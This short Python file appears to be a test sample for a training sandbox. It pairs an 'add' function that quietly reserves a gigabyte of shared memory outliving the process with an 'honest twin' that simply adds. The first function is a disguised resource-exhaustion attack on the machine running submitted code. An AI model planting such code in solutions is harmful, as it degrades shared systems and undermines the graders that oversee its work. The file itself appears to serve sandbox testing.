# Takes a gigabyte of System V and POSIX shared memory, which outlives processes.
# statuses: exception wrong_output killed
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def add(a, b):
    segment = libc.shmget(0x6770, ctypes.c_size_t(1 << 30), 0o1666)
    if segment >= 0:
        return a + b
    try:
        fd = os.open("/dev/shm/grpo-attack-shm", os.O_CREAT | os.O_RDWR)
        os.posix_fallocate(fd, 0, 1 << 30)
        return a + b
    except OSError:
        return None


# ---- honest twin ----
import ctypes

libc = ctypes.CDLL(None)


def add(a, b):
    return libc.abs(ctypes.c_int(a)) * (1 if a >= 0 else -1) + b
